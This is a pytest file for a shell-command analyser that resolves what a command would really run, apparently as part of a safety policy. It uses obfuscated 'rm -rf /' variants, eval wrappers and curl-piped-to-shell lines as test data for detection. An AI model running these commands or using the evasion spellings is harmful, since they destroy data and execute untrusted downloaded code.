"""Shell analysis: what the shell would run, whatever the spelling."""

from __future__ import annotations

import pytest

from aegis_core.policy.shell import analyse


def programs(command: str) -> list[str]:
    return [s.program for s in analyse(command).segments]


@pytest.mark.parametrize("command", [
    "\\rm -rf /", "/bin/rm -rf /", '"rm" -rf /', "r''m -rf /", "$'\\x72m' -rf /", "$'\\162\\155' -rf /",
    "sudo rm -rf /", "env X=1 rm -rf /", "command rm -rf /", "nice -n 5 nohup timeout 3 rm -rf /",
    "rm${IFS}-rf${IFS}/", "{rm,-rf,/}", "X=1 Y=2 rm -rf /",
])
def test_spellings_of_rm_are_rm(command: str) -> None:
    segments = analyse(command).segments
    assert [s.program for s in segments] == ["rm"]
    assert segments[0].argv[1:] == ("-rf", "/")


def test_operators_split_segments() -> None:
    assert programs("a; b && c || d | e & f\ng") == list("abcdefg")


def test_substitutions_are_their_own_segments() -> None:
    assert sorted(programs("echo $(whoami) `id` <(date)")) == ["date", "echo", "id", "whoami"]
    assert "rm" in programs('echo "$(rm -rf /)"')


def test_shell_strings_and_eval_are_followed() -> None:
    segments = analyse("sudo bash -lc \"eval 'rm -rf ~'\"").segments
    assert [s.program for s in segments] == ["rm"]
    assert segments[0].wrappers[:2] == ("sudo", "bash -c") and "eval" in segments[0].wrappers


def test_heredoc_and_herestring_fed_to_shells() -> None:
    assert programs("bash <<EOF\nrm -rf /\nEOF") == ["rm"]
    assert programs("sh <<< 'rm -rf /'") == ["rm"]
    code = analyse("python3 - <<'EOF'\nimport shutil\nEOF").segments[0].inline_code
    assert code == ("python", "import shutil")


def test_heredoc_body_with_parenthesis_inside_substitution() -> None:
    analysis = analyse("git commit -m \"$(cat <<'EOF'\nfix: a) b (c\nEOF\n)\"")
    assert sorted(programs(analysis.command)) == ["cat", "git"] and not analysis.problems


def test_pipes_into_shells_are_marked() -> None:
    seg = analyse("curl -s http://x | sh").segments[1]
    assert seg.reads_code and seg.code_from == (0,)
    seg = analyse("source <(curl http://x)").segments[-1]
    assert seg.reads_code and analyse("source <(curl http://x)").segments[seg.code_from[0]].program == "curl"


def test_find_exec_xargs_parallel_and_functions() -> None:
    assert "rm" in programs("find . -exec rm -rf {} +")
    rm = analyse("ls | xargs rm -rf").segments[1]
    assert rm.program == "rm" and rm.args[-1].dynamic and "xargs" in rm.wrappers
    assert "rm" in programs("parallel rm -rf ::: a b")
    analysis = analyse("f() { rm -rf /; }; f")
    assert "f" in analysis.functions and [s.program for s in analysis.segments if not s.function_call] == ["rm"]


@pytest.mark.parametrize("command,language", [
    ("python -c 'print(1)'", "python"), ("python3 -Bc 'x'", "python"), ("node -e 'x'", "javascript"),
    ("perl -ne 'print'", "perl"), ("ruby -e 'x'", "ruby"), ("php -r 'x;'", "php"),
    ("awk 'BEGIN{print 1}' f", "awk"),
])
def test_interpreter_one_liners(command: str, language: str) -> None:
    assert analyse(command).segments[0].inline_code[0] == language


def test_runners_and_python_m_pip_unwrap() -> None:
    assert programs("uv run pytest -q") == ["pytest"]
    assert programs("python -m pip install x") == ["pip"]
    assert programs("bundle exec rspec") == ["rspec"]


@pytest.mark.parametrize("command,problem", [
    ("echo 'open", "unbalanced single quote"), ('echo "open', "unbalanced double quote"),
    ("$(pick rm) -rf /", "computed at run time"), ("a=rm; $a -rf /", "computed at run time"),
    ("/???/r? -rf /", "wildcard"), ("bash -c \"$X\"", "built at run time"),
    ("echo x\x00y", "NUL"), ("case x in a) rm;; esac", "case"),
])
def test_problems_are_reported(command: str, problem: str) -> None:
    assert any(problem in p for p in analyse(command).problems), analyse(command).problems


def test_limits_give_problems_not_errors() -> None:
    assert analyse("x" * 40_000).problems
    assert analyse("bash -c " * 30 + "ls").problems or len(analyse("bash -c " * 30 + "ls").segments) <= 1
    deep = "echo " + "$(" * 50 + "ls" + ")" * 50
    assert analyse(deep).problems
    assert analyse(";" * 5000).problems or not analyse(";" * 5000).segments


def test_mentions_in_text_are_not_commands() -> None:
    assert programs("echo 'rm -rf / is dangerous'") == ["echo"]
    assert programs("git commit -m 'remove rm -rf usage'") == ["git"]
    assert programs("# rm -rf /\nls") == ["ls"]
